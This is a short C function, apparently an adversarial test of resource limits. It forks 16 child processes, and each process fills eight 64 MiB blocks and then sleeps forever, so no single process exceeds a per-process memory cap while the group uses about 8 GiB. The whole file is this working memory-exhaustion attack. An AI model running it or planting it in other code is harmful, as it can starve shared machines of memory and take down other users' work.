/* A memory bomb spread over processes: each stays under the per-process
 * address-space limit, together they would take 8 GiB. */
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int adv_attack(void)
{
    for (int i = 0; i < 16; i++)
        if (fork() == 0)
            break;
    for (int i = 0; i < 8; i++) {
        char *p = malloc(64 << 20);
        if (p != NULL)
            memset(p, 1, 64 << 20);
    }
    for (;;)
        pause();
    return 0;
}
